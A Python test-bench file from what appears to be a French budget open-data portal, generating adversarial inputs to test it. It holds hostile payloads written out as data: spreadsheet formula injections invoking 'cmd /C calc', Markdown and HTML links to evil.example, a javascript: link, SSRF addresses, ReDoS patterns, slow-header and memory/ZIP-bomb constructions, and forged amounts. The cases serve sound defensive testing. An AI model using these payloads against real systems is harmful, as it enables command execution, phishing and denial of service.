EVIL = "http://evil.example"


def xml_attribute(value: str) -> str:
    return (value.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
            .replace("\n", "&#10;"))


def takeover_cases(samples: dict[str, bytes]) -> list[Case]:
    """Each good sample, byte for byte and with one amount forged, for a source of organisation B."""
    cases = []
    for name, data in samples.items():
        stem = name.rsplit(".", 1)[0]
        forged = re.sub(rb'(<Mt\w+ V=")[0-9.]+(")', rb"\g<1>99999.99\2", data, count=1)
        cases.append(Case(f"takeover-copy-{stem}", "takeover", "document", body(data)))
        cases.append(Case(f"takeover-forged-{stem}", "takeover", "document", body(forged)))
    return cases


MARKDOWN_NAMES = {
    "link": f"CRACH [gagnez]({EVIL}/link)",
    "image": f"CRACH ![pixel]({EVIL}/pixel.png)",
    "html-img": f"CRACH <img src={EVIL}/img.png>",
    "html-a": f'CRACH <a href="{EVIL}/a">ici</a>',
    "autolink": f"CRACH <{EVIL}/auto>",
    "bare-url": f"CRACH {EVIL}/bare",
    "reference": f"CRACH [ici][1]\n\n[1]: {EVIL}/reference",
    "blocks": "CRACH\n# Titre\n* liste\n> citation\n`code`",
    "javascript": "CRACH [clic](javascript:alert(1))",
}
FORMULA_NAMES = {
    "hyperlink": f'=HYPERLINK("{EVIL}/f","CRACH")',
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}


def rendered_cases() -> list[Case]:
    """Valid documents of their own whose collectivité name is hostile Markdown or a spreadsheet
    formula: imported; nothing may render as a link or an image, and the report must warn."""
    text = base_text()
    cases = []
    for category, names in (("markdown", MARKDOWN_NAMES), ("formula", FORMULA_NAMES)):
        for name, value in names.items():
            case_name = f"{category}-{name}"
            data = latin1(replace_first(own_budget(text, case_name), "LibelleColl", xml_attribute(value)))
            cases.append(Case(case_name, category, "document", body(data), may_import=True))
    return cases


def address_cases() -> list[Case]:
    """CKAN catalogues listing a document address PostgreSQL cannot store. The source URL is
    `/round2/<name>/dataset/budgets`; the catalogue API answers under `/round2/<name>/api/3/`."""
    addresses = {"lone-surrogate": "/budget-\ud800.xml", "nul": "/budget-\u0000.xml",
                 "surrogate-pair-split": "/budget-\udbff\udfff-\udc00.xml"}
    cases = []
    for name, path in addresses.items():
        def respond(handler: BaseHTTPRequestHandler, path=path) -> None:
            import json
            document = {"success": True, "result": {"name": "budgets", "resources": [
                {"url": base_url(handler) + path, "format": "XML"}]}}
            # json.dumps escapes the lone surrogates and the NUL as \\uXXXX, as a real catalogue may.
            body(json.dumps(document).encode("ascii"), "application/json")(handler)
        cases.append(Case(f"address-{name}", "address", "source", respond, source_config={"kind": "ckan"}))
    return cases


def address_routes(cases: list[Case]) -> dict[str, Respond]:
    return {f"/round2/{case.name}/api/3/action/package_show": case.respond for case in cases}


def address_url(base: str, case: Case) -> str:
    return f"{base}/round2/{case.name}/dataset/budgets"


DATAGOUV_CONFIGS = {
    "misspelt-organisation": {"datagouv": {"organisation": "commune-de-crach"}},
    "extra-key": {"datagouv": {"organization": "commune-de-crach", "org": "autre"}},
    "organization-list": {"datagouv": {"organization": ["commune-de-crach"]}},
    "organization-number": {"datagouv": {"organization": 56046}},
    "organization-blank": {"datagouv": {"organization": "  "}},
}


def datagouv_config_cases(good: bytes) -> list[Case]:
    """Source configurations whose data.gouv.fr section is malformed: refused when the source is saved."""
    return [Case(f"datagouv-{name}", "datagouv", "source", body(good), source_config=config)
            for name, config in DATAGOUV_CONFIGS.items()]


def round_two_ssrf_cases() -> list[Case]:
    return [Case("ssrf-site-local-v6", "ssrf", "ssrf", url="http://[fec0::1]/budget.xml"),
            Case("ssrf-site-local-v6-other", "ssrf", "ssrf", url="http://[feff:ffff::1]/budget.xml"),
            # round 3: IANA special-purpose blocks that Python's ipaddress calls global
            Case("ssrf-ietf-dummy-v4", "ssrf", "ssrf", url="http://192.0.0.8/budget.xml"),
            Case("ssrf-documentation-v6", "ssrf", "ssrf", url="http://[3fff::1]/budget.xml")]

# === end of round 2, part A ======================================================================
# === Round 2 (issue 12, items 3-8 and the archive part of 9) ====================================
# Each case is the URL of a source of its own, so that its time and the peak memory it adds are
# its own; the summary cases are CSV files uploaded to the portal and summarised (phase C).


def round2_source_cases(good: bytes) -> list[Case]:
    def source(category: str, name: str, respond: Respond, config: dict, *, nothing: bool = False,
               imports: bool = False) -> Case:
        return Case(f"{category}-{name}", category, "source", respond, source_config=config,
                    may_list_nothing=nothing, may_import=imports)

    index_kind = {"kind": "index"}
    text = base_text()
    last_line = text.rindex("</LigneBudget>") + len("</LigneBudget>")
    first_line_end = text.index("</LigneBudget>")

    def filled(name: str, at: int, filler: bytes, total: int) -> Respond:
        """The base document with ``total`` bytes of ``filler`` inserted at ``at``, sent as it is made."""
        document = own_budget(text, name)
        shift = len(document) - len(text)
        head, tail = latin1(document[:at + shift]), latin1(document[at + shift:])
        count = total // len(filler)
        block = filler * (MEGABYTE // len(filler))

        def chunks() -> Iterator[bytes]:
            yield head
            sent = 0
            while sent < count:
                step = min(len(block) // len(filler), count - sent)
                yield block[:step * len(filler)]
                sent += step
            yield tail
        return stream(chunks, content_length=len(head) + count * len(filler) + len(tail))

    def slow_headers(handler: BaseHTTPRequestHandler) -> None:
        """A status line, then one header byte every 0.5 s for a minute (each within the read timeout)."""
        handler.close_connection = True
        try:
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
            handler.wfile.flush()
            for _ in range(120):
                if handler.server.stopping.wait(0.5):
                    return
                handler.wfile.write(b"x")
                handler.wfile.flush()
        except OSError:  # the client gave up: that is the point
            return

    redos_tail = "a" * 28 + "_"  # a harvest source name allows "_"; "(a+)+$" fails on it only after backtracking
    links = "".join(f'<a href="doc-{number}.xml">{number}</a>' for number in range(6_000))
    return [
        # 4. Pages that took html.parser or a Content-Type charset super-linear time.
        source("parsing", "index-48k-of-a-open", body(b"<a " * 16_000, "text/html"), index_kind, nothing=True),
        source("parsing", "index-5mb-of-a-open", body(b"<a " * (5 * MEGABYTE // 3), "text/html"), index_kind,
               nothing=True),
        source("parsing", "index-charset-punycode",
               body(b"<p>" + b"a-" * MEGABYTE + b"</p>", "text/html; charset=punycode"), index_kind, nothing=True),
        source("parsing", "index-charset-idna", body(b"<p>\xff\xfe</p>", "text/html; charset=idna"), index_kind,
               nothing=True),
        source("parsing", "index-charset-utf7", body(b'+ADw-a href=+ACI-x.xml+ACI-+AD4-', "text/html; charset=utf-7"),
               index_kind, nothing=True),
        # 5. Patterns: matched by RE2 in linear time, or refused when RE2 cannot run them.
        Case(f"redos-nested-plus-{redos_tail}", "redos", "source", body(good), source_config={
            "kind": "file", "pattern": "(a+)+$"}, may_list_nothing=True),
        source("redos", "backreference", body(good), {"kind": "file", "pattern": r"(a+)\1$"}),
        source("redos", "lookahead", body(good), {"kind": "file", "pattern": r"(?=(a+)+)$"}),
        source("redos", "repetition-1000000", body(good), {"kind": "file", "pattern": "((a{1000}){1000})"}),
        # 6. Headers sent one byte at a time, well within the read timeout each.
        source("slow", "headers-byte-by-byte-60s", slow_headers, {"kind": "file"}),
        # 7. Elements no event reports: freed as they pile up, whatever they are.
        source("memory", "50mb-small-elements-after-last-line", filled("m50x", last_line, b"<x/>", 50 * MEGABYTE),
               {"kind": "file"}, imports=True),
        source("memory", "50mb-line-fields-after-last-line",
               filled("m50n", last_line, b'<Nature V="1"/>', 50 * MEGABYTE), {"kind": "file"}, imports=True),
        source("memory", "50mb-comments-after-last-line", filled("m50c", last_line, b"<!---->", 50 * MEGABYTE),
               {"kind": "file"}, imports=True),
        source("memory", "line-with-1m-children", filled("m1mc", first_line_end, b"<x/>", 4 * MEGABYTE),
               {"kind": "file"}),
        # 8. A source listing more documents than allowed (5,000 by default).
        source("growth", "index-6000-documents", body(links.encode(), "text/html"), index_kind),
        # 9. Central directories of a million entries, refused from the end record alone.
        source("archive", "zip64-1m-entries", stream(million_entry_directory, content_length=million_entry_size()),
               {"kind": "zip"}),
        *listing_cases(text),
    ]


# 8. Catalogue API pages far larger or deeper than any real one, each listing one document (imported)
# among everything else a page may hold. Built whole, a page cost about 6.5 times its size in Python
# objects (plus its bytes and text), and 1,000 levels of nesting raised RecursionError.
_DATASET = (b', {"id": "d-%08d", "name": "budget-%08d", "title": "Budget %08d", "notes": "", "private": false, '
            b'"tags": [{"name": "budget"}, {"name": "m14"}], "extras": [{"key": "k", "value": "v"}], '
            b'"resources": [%s]}')
_CSV_RESOURCE = (b'{"id": "r-%08d-%d", "name": "Budget %d", "url": "https://files.example/%08d-%d.csv", '
                 b'"format": "CSV", "position": %d, "size": null, "extras": {}}')
LISTING_PAGE_CAP = 64 * MEGABYTE  # for the 32 MB pages (production: 16 MB, not configurable)


def catalogue_datasets(count: int) -> Iterator[bytes]:
    """``count`` datasets as catalogues describe them (eight CSV resources each, 1.5 kB), each preceded
    by ", ", in blocks of about 1 MB."""
    block = []
    for number in range(count):
        resources = b", ".join(_CSV_RESOURCE % (number, i, i, number, i, i) for i in range(8))
        block.append(_DATASET % (number, number, number, resources))
        if len(block) == 700:
            yield b"".join(block)
            block = []
    yield b"".join(block)


def empty_objects(count: int) -> Iterator[bytes]:
    block = b", {}" * 100_000
    for _ in range(count // 100_000):
        yield block


def nested_arrays(depth: int) -> Iterator[bytes]:
    yield b"[" * depth
    yield b"]" * depth


def json_page(head: bytes, items: Iterable[bytes], tail: bytes) -> Respond:
    """A JSON page built when the case is, so that making it counts in neither the case's time
    nor the memory it adds (the bench holds the four pages, 78 MB, from then on)."""
    return body(head + b"".join(items) + tail, "application/json")


def listing_cases(text: str) -> list[Case]:
    def document(name: str) -> Respond:
        return body(latin1(own_budget(text, name)))

    def ckan(name: str, results: Iterable[bytes], count: int, max_page_bytes: int | None = None) -> Case:
        prefix = f"/case/{name}"
        api = f"{prefix}/api/3/action"
        head = (b'{"help": "h", "success": true, "result": {"count": %d, "sort": "name asc", "results": ['
                b'{"name": "budget", "resources": [{"url": "%s/budget.xml", "format": "XML"}]}'
                % (count, prefix.encode()))
        return Case(name, "listing", "source", source_config={"kind": "ckan"}, may_import=True,
                    source_path=f"{prefix}/organization/ville", max_page_bytes=max_page_bytes, routes={
                        f"{api}/organization_show": body(b'{"success": true, "result": {"name": "ville"}}',
                                                         "application/json"),
                        f"{api}/package_search": json_page(head, results, b'], "facets": {}}}'),
                        f"{prefix}/budget.xml": document(name)})

    def udata(name: str, data: Iterable[bytes], total: int, max_page_bytes: int | None = None) -> Case:
        head = (b'{"data": [{"slug": "budget", "resources": [{"url": "/case/%s/budget.xml", "format": "xml"}]}'
                % name.encode())
        tail = b'], "page": 1, "page_size": 20, "total": %d, "next_page": null, "previous_page": null}' % total
        return Case(name, "listing", "source", source_config={"kind": "udata"}, may_import=True,
                    source_path=f"/organizations/{name}/", max_page_bytes=max_page_bytes, routes={
                        f"/api/1/organizations/{name}/datasets/": json_page(head, data, tail),
                        f"/case/{name}/budget.xml": document(name)})

    datasets = 21_000  # 32 MB
    return [
        ckan("listing-ckan-32mb-page", catalogue_datasets(datasets), datasets + 1, LISTING_PAGE_CAP),
        udata("listing-udata-32mb-page", catalogue_datasets(datasets), datasets + 1, LISTING_PAGE_CAP),
        ckan("listing-ckan-3m-empty-objects", itertools.chain(
            [b', {"resources": [{}'], empty_objects(3_000_000), [b"]}"]), 2),
        udata("listing-udata-nesting-1m", itertools.chain([b', {"extras": '], nested_arrays(1_000_000), [b"}"]), 2),
    ]


_MILLION = 1_000_000
_CENTRAL_ENTRY = b"PK\x01\x02" + bytes(24) + (1).to_bytes(2, "little") + bytes(16) + b"x"


def million_entry_directory() -> Iterator[bytes]:
    """A ZIP64 central directory of a million one-letter entries (no data: zipfile reads the
    directory first), then its end records, generated while it is sent."""
    block = _CENTRAL_ENTRY * 10_000
    for _ in range(_MILLION // 10_000):
        yield block
    directory = len(_CENTRAL_ENTRY) * _MILLION
    yield (b"PK\x06\x06" + (44).to_bytes(8, "little") + (45).to_bytes(2, "little") * 2 + bytes(8)
           + _MILLION.to_bytes(8, "little") * 2 + directory.to_bytes(8, "little") + bytes(8))
    yield b"PK\x06\x07" + bytes(4) + directory.to_bytes(8, "little") + (1).to_bytes(4, "little")
    yield b"PK\x05\x06" + bytes(4) + b"\xff\xff" * 2 + b"\xff\xff\xff\xff" * 2 + bytes(2)


def million_entry_size() -> int:
    return sum(len(chunk) for chunk in million_entry_directory())


@dataclass
class SummaryCase:
    """An SCDL budget CSV uploaded to the portal, then summarised as any visitor may ask."""

    name: str
    csv: Callable[[], bytes]
    # A file beyond the summary's bounds is refused with a clear message; others are summarised.
    refused: bool


def summary_cases(fields: list[str]) -> list[SummaryCase]:
    def table(rows: Iterable[dict]) -> Callable[[], bytes]:
        def make() -> bytes:
            lines = [",".join(fields)] + [",".join(row.get(f, "") for f in fields) for row in rows]
            return "\n".join(lines).encode()
        return make

    def row(index: int, **cells: str) -> dict:
        return {"BGT_NATDEC": "budget primitif", "BGT_SECTION": "fonctionnement", "BGT_CODRD": "dépense",
                "BGT_OPBUDG": "réel", "BGT_CONTNAT": f"{index % 50:03d}", "BGT_NATURE": f"6{index % 900:03d}",
                "BGT_FONCTION": f"{index % 90:02d}", **cells}

    return [
        SummaryCase("amounts-1e999999-x2000", table(row(i, BGT_MTPREV="1E+999999") for i in range(2_000)), False),
        SummaryCase("amounts-1e9999999", table(row(i, BGT_MTPREV="1E+9999999") for i in range(10)), False),
        SummaryCase("amounts-0e-999999", table(row(i, BGT_MTPREV="0E-999999") for i in range(2_000)), False),
        SummaryCase("amounts-500-digits", table(row(i, BGT_MTPREV="9" * 500) for i in range(2_000)), False),
        SummaryCase("chapters-100k-distinct",
                    table(row(0, BGT_CONTNAT=f"C{i}", BGT_MTPREV="1") for i in range(100_000)), True),
        SummaryCase("labels-100kb",
                    table(row(i, BGT_CONTNAT_LABEL="L" * 100_000, BGT_MTPREV="1") for i in range(50)), False),
    ]
# === end of round 2 ================================================================================


# --- round 3, occultation ----------------------------------------------------------------------

# Words no sample holds: none may be in a published document.
ROUND3_PERSON = "Jeanne Hostile"
ROUND3_BLANKS = 100_000
BERGER_LEVRAULT = "http://www.berger-levrault.fr/demat/outils"
ROUND3_ANNEXES = {
    "comment": f"<!-- {ROUND3_PERSON} -->",
    "processing-instruction": f"<?note {ROUND3_PERSON}?>",
    "stray-element": f'<NomBenefPret V="{ROUND3_PERSON}"/>',
    "stray-in-other-row": '<DATA_CONCOURS><CONCOURS><CodNatJurBenefCA V="P1"/>'
                          f'<NomBenefPret V="{ROUND3_PERSON}"/></CONCOURS></DATA_CONCOURS>',
    "code-lower-case": '<DATA_CONCOURS><CONCOURS><CodNatJurBenefCA V="p3"/>'
                       f'<LibOrgaBenef V="{ROUND3_PERSON}"/></CONCOURS></DATA_CONCOURS>',
    "code-foreign-namespace": f'<DATA_CONCOURS><CONCOURS><bl:CodNatJurBenefCA xmlns:bl="{BERGER_LEVRAULT}" V="P1"/>'
                              f'<LibOrgaBenef V="{ROUND3_PERSON}"/></CONCOURS></DATA_CONCOURS>',
    "agent-index": '<DATA_PERSONNEL><PERSONNEL><CodTypAgent V="N"/><EmploiGradeAgent V="Attaché"/>'
                   '<IndiceAgent V="807"/><EffectifPourvu V="1.0"/></PERSONNEL></DATA_PERSONNEL>',
}
# Refused: its one error must not quote the URI.
ROUND3_NAMESPACE_ANNEX = f'<DATA_PRET xmlns:p="urn:{ROUND3_PERSON.replace(" ", "-")}"/>'


def _with_annexes(name: str, annexes: str) -> bytes:
    text = own_budget(base_text(), name)
    return latin1(text.replace("<Annexes>", f"<Annexes>{annexes}", 1))


def blanks_across_the_chunk_boundary(name: str) -> bytes:
    """A well-formed document whose <PRET> start tag holds ROUND3_BLANKS blanks and straddles the
    occulter's first chunk boundary (1 MiB): the tag pattern of before backtracked exponentially
    there."""
    head, _, tail = own_budget(base_text(), name).partition("<Annexes>")
    head = latin1(head + "<Annexes>")
    padding = b"\n" * (MEGABYTE - 1000 - len(head))
    row = (b"<DATA_PRET><PRET" + b" " * ROUND3_BLANKS + b">"
           + f'<NomBenefPret V="{ROUND3_PERSON}"/><MtPret V="1000"/></PRET></DATA_PRET>'.encode("ascii"))
    return head + padding + row + latin1(tail)


def round3_occultation_cases() -> list[Case]:
    """Imported, and the published (occulted) XML must name nobody; the namespace case refused."""
    cases = [Case("r3-blanks-across-chunk", "occult-r3", "document",
                  body(blanks_across_the_chunk_boundary("r3blanks")), may_import=True)]
    for key, annexes in ROUND3_ANNEXES.items():
        cases.append(Case(f"r3-{key}", "occult-r3", "document", body(_with_annexes(f"r3{key}", annexes)),
                          may_import=True))
    cases.append(Case("r3-namespace-uri", "occult-r3", "document",
                      body(_with_annexes("r3namespace", ROUND3_NAMESPACE_ANNEX))))
    return cases


# --- round 3, uploads ---

@dataclass
class HandAddedCase:
    """A TOTEM document an editor adds by hand (issue 20, items 2 and 9): uploaded, or ``linked`` (served
    by the bench at ``path``). ``released``: readable, so its occulted version is served once its job
    ran; otherwise nothing of it is ever served. ``job_killed``: its job never completes (killed at
    ``ckan.jobs.timeout``). ``max_document_size``: the portal's limit while its job runs."""

    name: str
    content: Callable[[], bytes]
    linked: bool = False
    released: bool = False
    job_killed: bool = False
    max_document_size: int | None = None

    @property
    def path(self) -> str:
        return f"/round-three/{self.name}.xml"


def hand_added_cases() -> list[HandAddedCase]:
    named = SHARED_TOTEM / "mohon-cfu-2023.xml"  # 112 personal values, 1.75 MB

    def original() -> bytes:
        return named.read_bytes()

    def truncated() -> bytes:
        document = original()
        return document[:len(document) // 2]

    def doctype() -> bytes:
        return original().replace(b"?>", b"?><!DOCTYPE CompteFinancierUnique>", 1)

    def utf16() -> bytes:
        return original().decode("iso-8859-1").replace("ISO-8859-1", "UTF-16", 1).encode("utf-16")

    return [
        HandAddedCase("upload-truncated", truncated),
        HandAddedCase("upload-doctype", doctype),
        HandAddedCase("upload-utf-16", utf16),
        HandAddedCase("upload-over-max-document-size", original, max_document_size=1_000_000),
        HandAddedCase("upload-job-killed", original, job_killed=True),
        HandAddedCase("link-truncated", truncated, linked=True),
        HandAddedCase("upload-naming-persons", original, released=True),
        HandAddedCase("link-naming-persons", original, linked=True, released=True),
    ]


# --- round 3, amounts ------------------------------------------------------------------------------

FORGED_AMOUNT = "1" * 35  # per inhabitant, beyond what a 28-digit quantize to cents could hold
OUT_OF_RANGE_AMOUNT = "9E+999998"
FORGER_TEMPLATE = SHARED_TOTEM / "crach-principal-ca-2021.xml"  # a CA, M14, 3 446 inhabitants


def _luhn_completed(digits: str) -> str:
    """``digits`` and the check digit that makes their Luhn sum a multiple of 10."""
    for digit in "0123456789":
        candidate = digits + digit
        total = sum(int(char) if index % 2 == 0 else sum(divmod(int(char) * 2, 10))
                    for index, char in enumerate(reversed(candidate)))
        if total % 10 == 0:
            return candidate
    raise AssertionError("unreachable: one digit of ten makes the Luhn sum a multiple of 10")


def luhn_siret(siren_8: str, establishment_4: str) -> str:
    """A SIRET the validation accepts: its SIREN (9 digits) and the whole 14 digits follow Luhn."""
    return _luhn_completed(_luhn_completed(siren_8) + establishment_4)


def forged_amount_cases() -> list[Case]:
    """Another organisation's CAs of SIRETs of their own, in CRACH's norme and population band (so
    peers of every M14 page): one with a 35-digit MtReal, one valid whose CSV the bench then replaces
    by an upload holding 9E+999998. Both import: the document is well-formed and valid."""
    template = FORGER_TEMPLATE.read_bytes()
    cases = []
    for name, siret, amount in (("forged-mtreal-35-digits", luhn_siret("29990000", "0001"), FORGED_AMOUNT),
                                ("forged-csv-9e999998", luhn_siret("29990000", "0002"), None)):
        data = re.sub(rb'<(IdColl|IdEtab) V="21560046100010"/>',
                      lambda match, siret=siret: b'<%s V="%s"/>' % (match.group(1), siret.encode()), template)
        if amount is not None:
            data = re.sub(rb'<MtReal V="[0-9.]+"/>', f'<MtReal V="{amount}"/>'.encode(), data, count=1)
        cases.append(Case(name, "amounts", "document", body(data), may_import=True))
    return cases


def with_out_of_range_amount(scdl_csv: bytes) -> bytes:
    """The CSV with its first BGT_MTREAL amount replaced by 9E+999998, as an editor would upload it."""
    lines = scdl_csv.decode("utf-8").split("\n")
    column = lines[0].split(",").index("BGT_MTREAL")
    for index, line in enumerate(lines[1:], start=1):
        cells = next(csv.reader([line]), [])
        if len(cells) > column and cells[column]:
            cells[column] = OUT_OF_RANGE_AMOUNT
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="").writerow(cells)
            lines[index] = buffer.getvalue()
            break
    return "\n".join(lines).encode("utf-8")


def unpublished_sirets(count: int) -> list[str]:
    """SIRETs nobody publishes, for annex pages any visitor may ask for."""
    return [luhn_siret("29980000", f"{number:04d}") for number in range(count)]
